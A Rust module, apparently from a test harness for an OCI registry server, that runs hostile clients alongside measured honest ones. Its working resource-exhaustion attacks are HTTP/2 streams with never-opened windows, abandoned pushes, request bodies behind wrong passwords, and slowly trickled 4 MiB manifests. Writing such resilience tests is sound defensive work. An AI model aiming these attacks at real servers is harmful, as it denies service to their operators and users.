//! Hostile clients, which run beside the honest ones whose answers are measured.
//!
//! Each attack takes memory, descriptors or tasks of a server that bounds them for one connection only. The server may
//! answer as it likes, or close the connection: the attack then begins anew.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::Duration;

use anyhow::{Result, anyhow};

/// Connections of the attack by streams whose client never opens its window.
const STALLED_CONNECTIONS: usize = 40;
/// Streams of each of these connections, and of those that send bodies.
const STREAMS: u32 = 100;
/// Connections that send bodies to requests whose password is being checked.
const UNREAD_CONNECTIONS: usize = 56;
/// Clients that send a large manifest slowly, over HTTP/1.1.
const SLOW_CLIENTS: usize = 100;
/// Size of the large manifests.
const MANIFEST: usize = 4 << 20;
/// How long an attacker waits before its next step.
const PAUSE: Duration = Duration::from_millis(50);

/// What is attacked.
#[derive(Clone)]
pub(crate) struct Target {
    pub(crate) address: SocketAddr,
    /// Repository to push to and pull from.
    pub(crate) repository: String,
    /// Digest of a large blob in it.
    pub(crate) blob: String,
    /// Credentials of a user that may do both.
    pub(crate) authorization: String,
}

/// Attacks that run until this is dropped.
pub(crate) struct Attacks {
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

impl Attacks {
    /// Starts all attacks on `target`.
    pub(crate) fn start(target: &Target) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let attacks: [fn(&Target, &AtomicBool); 4] =
            [stalled_streams, abandoned_pushes, unread_bodies, gathered_bodies];
        let threads = attacks.map(|attack| {
            let (target, stop) = (target.clone(), Arc::clone(&stop));
            thread::spawn(move || attack(&target, &stop))
        });
        Self {
            stop,
            threads: threads.into(),
        }
    }

    /// Ends them.
    pub(crate) fn stop(mut self) -> Result<()> {
        self.stop.store(true, Ordering::Relaxed);
        let ended = self.threads.drain(..).map(JoinHandle::join);
        ended
            .collect::<Result<(), _>>()
            .map_err(|_| anyhow!("an attacker panicked"))
    }
}

impl Drop for Attacks {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// HTTP/2: GETs of a large blob on connections whose windows never open; the client is alive and answers PINGs.
fn stalled_streams(target: &Target, stop: &AtomicBool) {
    let path = format!("/v2/{}/blobs/{}", target.repository, target.blob);
    let open = || {
        let mut connection = Http2::connect(target.address, 0)?;
        for number in 0..STREAMS {
            let authorization = ("authorization", target.authorization.as_str());
            connection.headers(number, "GET", &path, &[authorization], true)?;
        }
        Ok(connection)
    };
    keep_open(STALLED_CONNECTIONS, stop, open, Http2::answer_pings);
}

/// Complete pushes of a manifest whose client hangs up before the answer.
fn abandoned_pushes(target: &Target, stop: &AtomicBool) {
    let body = vec![b' '; MANIFEST / 4];
    while !stop.load(Ordering::Relaxed) {
        for _ in 0..16 {
            let head = push_head(target, "hostile-2", body.len());
            let pushed = connect(target.address).and_then(|mut stream| {
                stream.write_all(head.as_bytes())?;
                stream.write_all(&body)
            });
            // The server may refuse it.
            drop(pushed);
        }
        thread::sleep(PAUSE);
    }
}

/// HTTP/2: bodies of requests whose wrong passwords are still to be checked.
fn unread_bodies(target: &Target, stop: &AtomicBool) {
    let path = format!("/v2/{}/manifests/hostile-3", target.repository);
    let open = || {
        let mut connection = Http2::connect(target.address, 1 << 20)?;
        for number in 0..STREAMS {
            // `user:<number>`, in a form that needs no encoder: each is another wrong password.
            let authorization = format!("Basic dXNlcjo{:A<4}", number % 1000);
            connection.headers(number, "PUT", &path, &[("authorization", &authorization)], false)?;
            connection.data(number, &[b' '; 16 << 10])?;
        }
        Ok(connection)
    };
    keep_open(UNREAD_CONNECTIONS, stop, open, Http2::answer_pings);
}

/// Manifests of 4 MiB that never end, of which all but the end is sent at once.
fn gathered_bodies(target: &Target, stop: &AtomicBool) {
    let body = vec![b' '; MANIFEST - 4096];
    let open = || {
        let mut stream = connect(target.address)?;
        stream.write_all(push_head(target, "hostile-4", MANIFEST).as_bytes())?;
        stream.write_all(&body)?;
        Ok(stream)
    };
    let trickle = |stream: &mut TcpStream| stream.write_all(b" ");
    keep_open(SLOW_CLIENTS, stop, open, trickle);
}

/// Holds `count` connections open, does `step` on each of them now and then, and replaces those that fail.
fn keep_open<C>(
    count: usize,
    stop: &AtomicBool,
    open: impl Fn() -> std::io::Result<C>,
    step: impl Fn(&mut C) -> std::io::Result<()>,
) {
    let mut connections = Vec::with_capacity(count);
    while !stop.load(Ordering::Relaxed) {
        connections.retain_mut(|connection| step(connection).is_ok());
        if connections.len() < count {
            connections.extend(open());
        } else {
            thread::sleep(PAUSE);
        }
    }
}

fn push_head(target: &Target, tag: &str, length: usize) -> String {
    format!(
        "PUT /v2/{}/manifests/{tag} HTTP/1.1\r\nHost: {}\r\nAuthorization: {}\r\n\
         Content-Type: application/vnd.oci.image.manifest.v1+json\r\nContent-Length: {length}\r\n\r\n",
        target.repository, target.address, target.authorization
    )
}

/// Connects; a read or write that waits fails after a while.
fn connect(address: SocketAddr) -> std::io::Result<TcpStream> {
    let stream = TcpStream::connect_timeout(&address, Duration::from_secs(1))?;
    stream.set_read_timeout(Some(Duration::from_millis(1)))?;
    stream.set_write_timeout(Some(Duration::from_millis(200)))?;
    Ok(stream)
}

/// A client of HTTP/2 (RFC 9113) that knows just enough to be hostile.
struct Http2 {
    stream: TcpStream,
    /// What was read and is not yet a whole frame.
    read: Vec<u8>,
}

impl Http2 {
    const DATA: u8 = 0;
    const HEADERS: u8 = 1;
    const SETTINGS: u8 = 4;
    const PING: u8 = 6;
    const END_STREAM: u8 = 1;
    const END_HEADERS: u8 = 4;
    const ACK: u8 = 1;

    /// Connects with prior knowledge, and gives each stream a window of `window` bytes.
    fn connect(address: SocketAddr, window: u32) -> std::io::Result<Self> {
        let mut connection = Self {
            stream: connect(address)?,
            read: Vec::new(),
        };
        connection.stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
        let mut settings = vec![0, 4];
        settings.extend(window.to_be_bytes());
        connection.frame(Self::SETTINGS, 0, 0, &settings)?;
        Ok(connection)
    }

    /// Begins the request `number` of this connection, counted from 0.
    fn headers(
        &mut self,
        number: u32,
        method: &str,
        path: &str,
        headers: &[(&str, &str)],
        is_whole: bool,
    ) -> std::io::Result<()> {
        // Fields of HPACK (RFC 7541) without compression: the name by its index or as text, the value as text.
        let mut block = Vec::new();
        for (index, value) in [(2, method), (6, "http"), (4, path), (1, "localhost")] {
            block.push(index);
            text(&mut block, value);
        }
        for (name, value) in headers {
            block.push(0);
            text(&mut block, name);
            text(&mut block, value);
        }
        let end = if is_whole { Self::END_STREAM } else { 0 };
        self.frame(Self::HEADERS, Self::END_HEADERS | end, stream_of(number), &block)
    }

    fn data(&mut self, number: u32, bytes: &[u8]) -> std::io::Result<()> {
        self.frame(Self::DATA, 0, stream_of(number), bytes)
    }

    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> std::io::Result<()> {
        let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
        let mut frame = length[1..].to_vec();
        frame.extend([kind, flags]);
        frame.extend(stream.to_be_bytes());
        frame.extend(payload);
        self.stream.write_all(&frame)
    }

    /// Reads what has come, and answers each PING as a live client does.
    fn answer_pings(&mut self) -> std::io::Result<()> {
        const HEAD: usize = 9;
        let mut buffer = [0; 16 << 10];
        match self.stream.read(&mut buffer) {
            Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
            Ok(count) => self.read.extend(&buffer[..count]),
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(error) => return Err(error),
        }
        while let Some(&[a, b, c, kind, flags, ..]) = self.read.get(..HEAD) {
            let length = u32::from_be_bytes([0, a, b, c]) as usize;
            if self.read.len() < HEAD + length {
                break;
            }
            let frame: Vec<u8> = self.read.drain(..HEAD + length).collect();
            if kind == Self::PING && flags & Self::ACK == 0 {
                self.frame(Self::PING, Self::ACK, 0, &frame[HEAD..])?;
            }
        }
        Ok(())
    }
}

/// The identifier of the request `number`: streams of clients have odd ones.
fn stream_of(number: u32) -> u32 {
    2 * number + 1
}

/// Appends a text of HPACK: its length with a prefix of 7 bits, and its bytes.
fn text(block: &mut Vec<u8>, text: &str) {
    const PREFIX: usize = 127;
    match text.len().checked_sub(PREFIX) {
        None => block.push(u8::try_from(text.len()).unwrap_or_default()),
        Some(mut rest) => {
            block.push(127);
            while rest >= 128 {
                block.push(u8::try_from(rest % 128).unwrap_or_default() | 128);
                rest /= 128;
            }
            block.push(u8::try_from(rest).unwrap_or_default());
        }
    }
    block.extend(text.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    /// RFC 7541, C.1.3: 1337 with a prefix of five bits is 31, 154, 10; with seven bits, 127, 186, 9.
    #[test]
    fn lengths_are_those_of_hpack() {
        let mut block = Vec::new();
        text(&mut block, "abc");
        assert_eq!(block, [3, b'a', b'b', b'c']);
        block.clear();
        text(&mut block, &"x".repeat(1337));
        assert_eq!(block[..3], [127, 186, 9]);
        block.clear();
        text(&mut block, &"x".repeat(127));
        assert_eq!(block[..2], [127, 0]);
    }
}
